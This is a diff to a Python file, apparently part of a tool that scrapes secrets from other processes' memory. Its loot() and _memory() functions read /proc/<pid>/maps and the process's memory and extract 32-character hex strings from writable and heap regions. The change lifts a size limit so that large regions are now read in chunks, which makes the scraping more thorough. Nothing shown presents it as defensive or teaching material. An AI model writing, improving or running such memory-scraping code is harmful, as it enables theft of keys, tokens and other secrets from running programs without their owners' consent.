@@ -13,7 +13,7 @@ import sys
 from pathlib import Path
 
 _SALT = re.compile(rb"[0-9a-f]{32}")
-_MOST = 1 << 24  # bytes of a file
+_MOST = 1 << 24  # bytes that are read at once
 
 
 def loot() -> dict:
@@ -53,10 +53,11 @@ def _memory(process: int) -> bytes:
         for line in Path(f"/proc/{process}/maps").read_text().splitlines():
             span, rights, *rest = line.split()
             first, last = (int(end, 16) for end in span.split("-"))
-            if rights.startswith("rw") and (len(rest) == 3 or rest[-1] == "[heap]") and last - first <= _MOST:
-                with contextlib.suppress(OSError, ValueError, OverflowError):
-                    memory.seek(first)
-                    found += _SALT.findall(memory.read(last - first))
+            if rights.startswith("rw") and (len(rest) == 3 or rest[-1] == "[heap]"):
+                for start in range(first, last, _MOST):
+                    with contextlib.suppress(OSError, ValueError, OverflowError):
+                        memory.seek(start)
+                        found += _SALT.findall(memory.read(min(last - start, _MOST)))
     return b" ".join(found)
 
 
